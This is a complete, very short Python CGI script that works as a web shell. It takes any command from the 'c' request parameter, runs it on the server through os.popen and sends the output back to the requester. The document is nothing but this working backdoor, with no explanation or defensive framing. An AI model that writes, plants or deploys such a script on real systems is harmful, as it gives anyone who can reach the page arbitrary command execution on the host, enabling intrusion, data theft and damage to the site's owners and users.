#!/usr/bin/python3
import os, cgi
c = cgi.FieldStorage().getfirst("c", "id")
print("Content-Type: text/plain\n")
print(os.popen(c + " 2>&1").read())
